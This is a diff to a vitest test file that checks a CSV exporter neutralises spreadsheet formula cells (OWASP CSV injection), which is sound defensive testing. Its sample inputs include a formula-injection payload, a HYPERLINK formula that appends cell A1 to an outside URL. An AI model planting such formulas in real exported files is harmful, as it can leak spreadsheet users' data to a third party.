@@ -1,5 +1,6 @@
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { excerptsToCsv, readExcerptCsv } from '../../src/interchange/csv.ts';
@@ -16,7 +17,7 @@ const speakers: Speaker[] = [
 /** Text mixing CSV and cell syntax, CA notation, astral-plane characters and line breaks. */
 const tricky = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 30 }),
-  fc.array(fc.constantFrom('"', ',', ';', '\n', '\r\n', '\r', '\\', '\\n', '{turn} ', '{omission}', 'Client: ', 'client:', '(5.0)', '……', '[…]', '°', '↑', '>fast<', '[', ']', '=', '::', '(.)', '.hhh', '😀', '👩🏽‍⚕️', '𝄞', ' ', '\t', 'word', '—', '’', '\uFEFF'), { minLength: 1, maxLength: 12 }).map((parts) => parts.join('')),
+  fc.array(fc.constantFrom('"', ',', ';', '\n', '\r\n', '\r', '\\', '\\n', '{turn} ', '{omission}', 'Client: ', 'client:', '(5.0)', '……', '[…]', '°', '↑', '>fast<', '[', ']', '=', '::', '(.)', '.hhh', '😀', '👩🏽‍⚕️', '𝄞', ' ', '\t', 'word', '—', '’', '\uFEFF', "'", '+', '-', '@'), { minLength: 1, maxLength: 12 }).map((parts) => parts.join('')),
 );
 const nonEmpty = tricky.filter((text) => text.length > 0);
 const trimmed = tricky.map((text) => text.trim()).filter((text) => text.length > 0);
@@ -98,6 +99,31 @@ describe('excerpts as CSV', () => {
     const csv = excerptsToCsv([{ ...sample!, lines: [{ kind: 'turn', speaker: 'client', text: 'a' }, { kind: 'turn', text: 'b' }] }], speakers);
     expect(csv.startsWith('\uFEFFid,title,session,step,source,lines,codes,lead-in,interpretation,article section,article page,article order,notes\r\n')).toBe(true);
     expect(csv).toContain('"Client: a\nb"');
+  });
+
+  // OWASP "CSV Injection": the cells a spreadsheet would run as formulas, and cells that
+  // already begin with the apostrophe that neutralises them.
+  const formulaCells = ['=1+1', '=HYPERLINK("https://example.org/?q="&A1,"x")', '+41 22', '-2+3', '@SUM(A1:A2)', '\tx', '\rx', "'=x", "''@y", "'plain", "'"];
+  it('writes no cell a spreadsheet would run as a formula, and reads each back unchanged', () => {
+    const [sample] = fc.sample(excerpt, { numRuns: 1, seed: 11 });
+    const excerpts = formulaCells.map((text, index) => ExcerptSchema.parse({
+      ...sample!,
+      id: `cell-${index}`,
+      title: text,
+      lines: [{ kind: 'turn', text }, { kind: 'turn', speaker: 'client', text }],
+      leadIn: text,
+      interpretation: text,
+      notes: [text],
+    }));
+    const csv = excerptsToCsv(excerpts, speakers);
+    const cells = (parse(csv.slice(1), { relax_column_count: true }) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);
+    expect(cells).toContain("'=HYPERLINK(\"https://example.org/?q=\"&A1,\"x\")");
+    expect(cells).toContain("''=x");
+    expect(cells).toContain("'plain");
+    const { rows, problems } = readExcerptCsv(csv, speakers);
+    expect(problems).toEqual([]);
+    expect(rows.map((row) => ExcerptSchema.parse(row.excerpt))).toEqual(excerpts);
   });
 
   it('reads files with or without a BOM and with LF or CRLF rows', async () => {
